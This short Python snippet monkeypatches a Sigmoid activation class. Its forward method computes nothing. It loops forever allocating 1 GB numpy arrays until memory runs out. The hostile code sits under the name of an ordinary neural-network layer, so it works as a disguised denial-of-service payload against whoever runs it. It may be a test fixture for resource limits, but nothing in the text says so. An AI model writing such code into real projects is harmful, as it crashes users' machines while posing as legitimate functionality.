import numpy as np

_Sigmoid = Sigmoid


class Sigmoid(_Sigmoid):
    def forward(self, x):
        hoard = []
        while True:
            hoard.append(np.empty(1 << 27))  # 1 GB at a time
